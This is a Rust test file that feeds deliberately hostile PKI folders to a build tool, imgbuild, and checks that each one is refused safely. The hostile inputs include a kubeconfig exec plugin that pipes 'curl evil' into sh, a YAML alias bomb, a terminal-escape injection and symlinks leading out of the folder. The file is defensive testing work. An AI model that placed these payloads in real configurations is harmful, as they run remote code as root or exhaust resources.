//! Hostile PKI folders (part of the hostile-input suite): files a careless or
//! malicious hand put into `pki_dir`. For each: `pki check` and the build exit
//! 2 within a bounded time, the message names the file and the problem,
//! nothing printed quotes key material, nothing panics and nothing is written
//! to `out/`.

mod support;

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::{Output, Stdio};

use support::{Workspace, assert_no_secret, text, wrapped};

/// A fresh PKI for the bundled example at v1.36.0 (no release: the PKI check
/// comes first, so a refused PKI stops every run before the cache).
fn workspace() -> Workspace {
    Workspace::builder("v1.36.0")
        .no_binaries()
        .explicit_inventory()
        .build()
}

/// Run imgbuild with at most 60 s and 1 GiB of memory: a hostile file that
/// makes it loop or balloon fails here instead of hanging the suite.
fn run(ws: &Workspace, args: &[&str]) -> Output {
    let mut cmd = ws.cmd();
    cmd.args(args);
    let out = wrapped(
        &[
            "timeout",
            "60",
            "sh",
            "-c",
            "ulimit -v 1048576; exec \"$0\" \"$@\"",
        ],
        &cmd,
    )
    .stdin(Stdio::null())
    .output()
    .unwrap();
    let said = text(&out);
    assert_ne!(out.status.code(), Some(124), "imgbuild {args:?} timed out");
    assert!(
        !said.contains("panicked"),
        "imgbuild {args:?} panicked:\n{said}"
    );
    assert_no_secret(&ws.pki_dir(), &said);
    out
}

/// `pki check` and `controller` both refuse the folder (exit 2), saying
/// `file: problem` (in check's report and in the build's error alike).
fn refused(ws: &Workspace, file: &str, problem: &str) -> String {
    let mut all = String::new();
    for args in [&["pki", "check"][..], &["controller", "--node", "1"]] {
        let out = run(ws, args);
        let said = text(&out);
        assert_eq!(out.status.code(), Some(2), "imgbuild {args:?}:\n{said}");
        let want = format!("{file}: {problem}");
        assert!(
            said.contains(&want),
            "imgbuild {args:?} does not say {want:?}:\n{said}"
        );
        all.push_str(&said);
    }
    assert!(!ws.path("out").exists(), "a refused build wrote out/");
    all
}

fn pki(ws: &Workspace, name: &str) -> std::path::PathBuf {
    ws.pki_dir().join(name)
}

/// Write `bytes` over `name` keeping its mode (0600 for secrets).
fn replace(ws: &Workspace, name: &str, bytes: impl AsRef<[u8]>) {
    fs::write(pki(ws, name), bytes).unwrap();
}

fn read(ws: &Workspace, name: &str) -> String {
    fs::read_to_string(pki(ws, name)).unwrap()
}

/// `admin.kubeconfig` with `from` replaced by `to` (it must be there).
fn edit_kubeconfig(ws: &Workspace, from: &str, to: &str) {
    let text = read(ws, "admin.kubeconfig");
    assert!(text.contains(from), "{from:?} not in the kubeconfig");
    replace(ws, "admin.kubeconfig", text.replacen(from, to, 1));
}

#[test]
fn truncated_pem() {
    let ws = workspace();
    let cert = read(&ws, "kubernetes.pem");
    replace(&ws, "kubernetes.pem", &cert[..cert.len() / 2]);
    refused(
        &ws,
        "kubernetes.pem",
        "is truncated: a PEM BEGIN line has no END line",
    );
}

#[test]
fn certificate_where_a_key_is_expected() {
    let ws = workspace();
    replace(&ws, "kubernetes-key.pem", read(&ws, "kubernetes.pem"));
    refused(
        &ws,
        "kubernetes-key.pem",
        "holds a PEM CERTIFICATE block where a private key is expected",
    );
}

#[test]
fn private_key_where_a_certificate_is_expected() {
    // Whatever goes wrong, the key in ca.pem is never echoed (the workspace's
    // secret check compares with ca-key.pem, which holds the same key).
    let ws = workspace();
    replace(&ws, "ca.pem", read(&ws, "ca-key.pem"));
    refused(
        &ws,
        "ca.pem",
        "holds a PEM PRIVATE KEY block where a certificate is expected",
    );
}

#[test]
fn mismatched_key() {
    let ws = workspace();
    replace(&ws, "admin-key.pem", read(&ws, "kube-scheduler-key.pem"));
    refused(
        &ws,
        "admin.pem",
        "key admin-key.pem does not match the certificate",
    );
}

#[test]
fn kubeconfig_embedding_another_cas_certificate() {
    let ws = workspace();
    let other = workspace(); // another `pki init`: another CA
    replace(&ws, "admin.kubeconfig", read(&other, "admin.kubeconfig"));
    refused(&ws, "admin.kubeconfig", "embedded CA is not ca.pem");
    refused(
        &ws,
        "admin.kubeconfig (client certificate)",
        "was not issued by ca.pem",
    );
}

#[test]
fn kubeconfig_pointing_at_a_file_outside_the_folder() {
    let ws = workspace();
    let text = read(&ws, "admin.kubeconfig");
    let line = text
        .lines()
        .find(|l| l.contains("client-certificate-data:"))
        .unwrap();
    edit_kubeconfig(
        &ws,
        line,
        "    client-certificate: /etc/ssl/private/other.pem",
    );
    let said = refused(
        &ws,
        "admin.kubeconfig",
        "refers to a file (client-certificate: \"/etc/ssl/private/other.pem\") instead of embedding client-certificate-data",
    );
    assert!(said.contains("--embed-certs"), "{said}");
}

#[test]
fn kubeconfig_with_an_exec_plugin() {
    // client-go would run it on every node, as root, for the component.
    let ws = workspace();
    edit_kubeconfig(
        &ws,
        "  user:\n",
        "  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [\"-c\", \"curl evil | sh\"]\n",
    );
    refused(
        &ws,
        "admin.kubeconfig",
        "user \"admin\" has \"exec\", which imgbuild does not write",
    );
}

#[test]
fn kubeconfig_skipping_tls_verification() {
    let ws = workspace();
    edit_kubeconfig(
        &ws,
        "  cluster:\n",
        "  cluster:\n    insecure-skip-tls-verify: true\n",
    );
    refused(
        &ws,
        "admin.kubeconfig",
        "cluster \"kubernetes\" has \"insecure-skip-tls-verify\"",
    );
}

#[test]
fn huge_pem_is_refused_by_size() {
    let ws = workspace();
    let cert = read(&ws, "ca.pem");
    let huge = cert.repeat((2 << 20) / cert.len() + 1);
    replace(&ws, "ca.pem", &huge);
    refused(
        &ws,
        "ca.pem",
        &format!(
            "is {} bytes; a PKI file is at most 1048576 bytes (1 MiB)",
            huge.len()
        ),
    );
    // `pki init` reads it too, under the same cap.
    let out = run(&ws, &["pki", "init"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(text(&out).contains("a PKI file is at most 1048576 bytes"));
}

#[test]
fn symlinked_key_pointing_outside_the_folder() {
    // The target is the right key: the content would pass, the place does not
    // (the build would carry whatever the link points at, into every image).
    let ws = workspace();
    let key = pki(&ws, "kubernetes-key.pem");
    let outside = ws.path("elsewhere-key.pem");
    fs::rename(&key, &outside).unwrap();
    symlink(&outside, &key).unwrap();
    let said = refused(
        &ws,
        "kubernetes-key.pem",
        &format!(
            "is a symlink to \"{}\", outside the PKI folder",
            outside.display()
        ),
    );
    assert!(
        said.contains(&format!(
            "cp --remove-destination \"{}\" {} && chmod 600 {}",
            outside.display(),
            key.display(),
            key.display()
        )),
        "{said}"
    );
    // A symlink inside the folder is fine.
    fs::remove_file(&key).unwrap();
    fs::rename(&outside, pki(&ws, "kubernetes-key-2025.pem")).unwrap();
    symlink("kubernetes-key-2025.pem", &key).unwrap();
    assert!(run(&ws, &["pki", "check"]).status.success());
}

#[test]
fn key_file_that_is_a_fifo_does_not_hang() {
    let ws = workspace();
    let key = pki(&ws, "admin-key.pem");
    fs::remove_file(&key).unwrap();
    support::sh(std::process::Command::new("mkfifo").arg(&key));
    refused(
        &ws,
        "admin-key.pem",
        "is not a regular file (a folder, device or pipe)",
    );
}

#[test]
fn non_utf8_kubeconfig() {
    let ws = workspace();
    let mut bytes = fs::read(pki(&ws, "admin.kubeconfig")).unwrap();
    bytes.extend_from_slice(b"# caf\xe9\n");
    replace(&ws, "admin.kubeconfig", bytes);
    refused(&ws, "admin.kubeconfig", "is not UTF-8 text");
}

#[test]
fn kubeconfig_alias_bomb() {
    // A few hundred bytes that a YAML loader expanding aliases turns into
    // 9^9 nodes; refused before anything is expanded.
    let ws = workspace();
    let mut bomb = read(&ws, "admin.kubeconfig");
    bomb.push_str(
        "x1: &a1 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    for i in 2..=9 {
        let refs = vec![format!("*a{}", i - 1); 9].join(",");
        bomb.push_str(&format!("x{i}: &a{i} [{refs}]\n"));
    }
    replace(&ws, "admin.kubeconfig", bomb);
    refused(&ws, "admin.kubeconfig", "uses a YAML alias");
}

#[test]
fn deeply_nested_encryption_config() {
    let ws = workspace();
    let deep = format!(
        "{}kind: x\n",
        (0..100_000).map(|_| "- ").collect::<String>()
    );
    replace(&ws, "encryption-config.yaml", deep);
    refused(
        &ws,
        "encryption-config.yaml",
        "nests more than 32 levels deep",
    );
}

/// An encryption config `from` → `to` (the part after the providers line).
fn edit_encryption(ws: &Workspace, providers: &str) {
    let text = read(ws, "encryption-config.yaml");
    let head = &text[..text.find("    providers:\n").unwrap()];
    replace(
        ws,
        "encryption-config.yaml",
        format!("{head}    providers:\n{providers}"),
    );
}

#[test]
fn encryption_key_of_16_bytes() {
    let ws = workspace();
    edit_encryption(
        &ws,
        "      - secretbox:\n          keys:\n            - name: key1\n              secret: MDEyMzQ1Njc4OWFiY2RlZg==\n",
    );
    let said = refused(
        &ws,
        "encryption-config.yaml",
        "secretbox key \"key1\" is 16 bytes; imgbuild requires 32-byte keys",
    );
    assert!(
        !said.contains("MDEyMzQ1Njc4OWFiY2RlZg=="),
        "the key was echoed"
    );
}

#[test]
fn encryption_config_listing_identity_first() {
    // Every Secret would be written to etcd in plain text.
    let ws = workspace();
    let text = read(&ws, "encryption-config.yaml");
    let providers = &text[text.find("    providers:\n").unwrap() + "    providers:\n".len()..];
    edit_encryption(&ws, &format!("      - identity: {{}}\n{providers}"));
    refused(
        &ws,
        "encryption-config.yaml",
        "lists identity first: Secrets are written to etcd unencrypted",
    );
}

#[test]
fn encryption_config_without_secrets() {
    let ws = workspace();
    let text =
        read(&ws, "encryption-config.yaml").replace("      - secrets\n", "      - configmaps\n");
    replace(&ws, "encryption-config.yaml", text);
    refused(
        &ws,
        "encryption-config.yaml",
        "has no entry for secrets: Secrets are stored unencrypted",
    );
}

#[test]
fn empty_key_file() {
    let ws = workspace();
    replace(&ws, "service-account-key.pem", "");
    refused(
        &ws,
        "service-account-key.pem",
        "holds no PEM private key block",
    );
}

#[test]
fn echoed_values_are_cut_and_escaped() {
    // A 1 MB server name with a terminal escape: the message shows 64
    // characters of it, escaped, and its length.
    let ws = workspace();
    let server = format!("https://\u{1b}[2J{}", "a".repeat(1_000_000 - 12));
    edit_kubeconfig(
        &ws,
        "server: \"https://127.0.0.1:6443\"",
        &format!("server: \"{}\"", server.replace('\u{1b}', "\\e")),
    );
    let said = refused(&ws, "admin.kubeconfig", "server is \"https://\\u{1b}[2J");
    assert!(
        !said.contains('\u{1b}'),
        "a raw escape reached the terminal"
    );
    assert!(said.len() < 50_000, "{} bytes of messages", said.len());
    assert!(
        said.contains("(1000000 bytes)"),
        "{}",
        &said[..2000.min(said.len())]
    );
}

#[test]
fn hostile_folder_refused_by_init_too() {
    // `pki init` reads the CA key first: a symlink out of the folder stops it
    // before anything is signed with a key from elsewhere.
    let ws = workspace();
    let key = pki(&ws, "ca-key.pem");
    let outside = ws.path("ca-key-elsewhere.pem");
    fs::rename(&key, &outside).unwrap();
    symlink(&outside, &key).unwrap();
    fs::remove_file(pki(&ws, "admin.pem")).unwrap();
    let out = run(&ws, &["pki", "init"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        text(&out).contains("ca-key.pem: is a symlink to"),
        "{}",
        text(&out)
    );
    assert!(!Path::new(&pki(&ws, "admin.pem")).exists());
}
